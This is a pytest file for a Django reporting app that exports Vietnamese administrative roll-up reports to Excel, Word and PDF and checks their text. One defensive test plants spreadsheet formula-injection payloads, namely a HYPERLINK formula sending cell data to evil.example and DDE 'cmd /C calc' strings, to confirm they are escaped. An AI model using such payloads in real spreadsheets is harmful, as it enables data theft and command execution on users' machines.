"""The roll-up documents: .xlsx figures, the NĐ 30/2020 .docx, its conversion to PDF by LibreOffice (headless) and
the WeasyPrint PDF — each checked by reading its text back."""

from __future__ import annotations

import io
import subprocess
from datetime import date

import pytest

from danchu.steering import documents, services
from danchu.steering.selectors.rollup import build_rollup

pytestmark = pytest.mark.django_db
TODAY = date(2026, 3, 1)


@pytest.fixture
def result(tree, legacy, city_template):
    def report(unit, key, values):
        sub = services.submission_open(template=city_template, unit=unit, period_key=key, actor=None, today=TODAY)
        services.submission_save(submission=sub, values=values, actor=None)
        services.submission_submit(submission=sub, actor=None, on=TODAY)

    report(legacy.an_hoa, "2024", {"1": "5", "2": "có", "3": "Thiếu kinh phí cho Ban Thanh tra nhân dân"})
    report(tree.commune_a, "2025", {"1": "3", "2": "có"})
    report(tree.commune_b, "2025", {"1": "12", "2": "không"})
    return services.rollup(template=city_template, scope=tree.province, start=date(2021, 1, 1),
                           end=date(2025, 12, 31), label="Giai đoạn 2021–2025")


def test_date_line_follows_nd30():
    assert documents.date_line("Cần Thơ", date(2026, 1, 5)) == "Cần Thơ, ngày 05 tháng 01 năm 2026"
    assert documents.date_line("Cần Thơ", date(2026, 11, 25)) == "Cần Thơ, ngày 25 tháng 11 năm 2026"
    assert documents.place_name("Thành phố Cần Thơ") == "Cần Thơ"


def test_xlsx_has_the_figures_of_the_records(result):
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(documents.rollup_xlsx(result)))
    ws = wb["Tổng hợp"]
    rows = {r[0]: r for r in ws.iter_rows(min_row=5, values_only=True)}
    assert rows["Phường Cái Khế"][2:5] == (2, 1, 8)  # reports, of which legacy, indicator 1 = 5 + 3
    assert rows["Phường Ninh Kiều"][4] == 12
    assert rows["Tổng cộng"][4] == 20 and rows["Tổng cộng"][5] == "2/3"
    notes = list(wb["Ý kiến"].iter_rows(min_row=2, values_only=True))
    assert notes[0][1] == "Phường An Hòa (2024)" and "kinh phí" in notes[0][2]


def _docx_text(data: bytes) -> str:
    from docx import Document

    document = Document(io.BytesIO(data))
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            parts.append(" | ".join(c.text for c in row.cells))
    return "\n".join(parts)


def test_docx_is_in_the_administrative_format(result):
    text = _docx_text(documents.rollup_docx(result, on=date(2026, 1, 5)))
    for expected in ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc", "Số:       /BC-BCĐ",
                     "Cần Thơ, ngày 05 tháng 01 năm 2026", "BÁO CÁO", "Nơi nhận:", "TM. BAN CHỈ ĐẠO",
                     "Phường An Hòa", "1 báo cáo lập trước ngày 01/7/2025"):
        assert expected in text, expected
    assert "Tổng cộng | 3 | 20 | 2/3 | 1 ý kiến" in text


@pytest.mark.requires_tool("soffice", "pdftotext")
def test_docx_converts_to_pdf_with_libreoffice(result, tmp_path):
    source = tmp_path / "bao-cao.docx"
    source.write_bytes(documents.rollup_docx(result, on=date(2026, 1, 5)))
    profile = tmp_path / "lo-profile"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
                    "--convert-to", "pdf", "--outdir", str(tmp_path), str(source)],
                   check=True, capture_output=True, timeout=120)
    pdf = tmp_path / "bao-cao.pdf"
    assert pdf.read_bytes().startswith(b"%PDF")
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], check=True, capture_output=True,
                          timeout=60).stdout.decode("utf-8")
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    assert "Phường Cái Khế" in text and "Phường An Hòa" in text
    assert "Tổng cộng" in text and "20" in text


@pytest.mark.requires_tool("pdftotext")
def test_weasyprint_pdf_carries_the_same_figures(result, tmp_path):
    pdf = tmp_path / "bao-cao.pdf"
    pdf.write_bytes(documents.rollup_pdf(result, on=date(2026, 1, 5)))
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], check=True, capture_output=True,
                          timeout=60).stdout.decode("utf-8")
    assert "BÁO CÁO" in text and "Phường Ninh Kiều" in text and "2/3" in text


def test_xlsx_never_holds_a_formula_from_the_data(tree, result):
    """A template title, a unit name, an indicator label or a commune's text starting with = + - @ is written as
    text with an apostrophe in front: no spreadsheet runs it."""
    from openpyxl import load_workbook

    from danchu.steering.models import Indicator, SubmissionValue

    template = result.template
    template.title = '=HYPERLINK("http://evil.example/?"&A2,"Bấm vào đây")'
    Indicator.objects.filter(template=template, code="1").update(label="+1+cmd|' /C calc'!A0")
    SubmissionValue.objects.filter(indicator__code="3").update(text="@SUM(1+1)*cmd|' /C calc'!A0")
    tree.commune_b.name = "-2+3 Phường"
    tree.commune_b.save(update_fields=["name"])
    fresh = build_rollup(template=template, scope=tree.province, start=date(2021, 1, 1), end=date(2025, 12, 31))
    fresh.label = "Giai đoạn 2021–2025"
    wb = load_workbook(io.BytesIO(documents.rollup_xlsx(fresh)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert cells and all(c.data_type == "s" for c in cells)
    texts = [c.value for c in cells]
    assert all(not t.startswith(("=", "+", "-", "@")) for t in texts)
    assert texts[0].startswith("'=HYPERLINK(")
    assert any(t.startswith("'-2+3 Phường") for t in texts)
    assert any(t.startswith("'@SUM") for t in texts)
    assert "1. +1+cmd" in " ".join(texts)  # the code comes first: harmless


def test_docx_keeps_the_case_of_the_template_title(result):
    result.template.title = "Báo cáo sơ kết thực hiện Kết luận số 120-KL/TW"
    text = _docx_text(documents.rollup_docx(result, on=date(2026, 1, 5)))
    assert "Thực hiện Báo cáo sơ kết thực hiện Kết luận số 120-KL/TW, Ban Chỉ đạo tổng hợp" in text
    assert "120-kl/tw" not in text
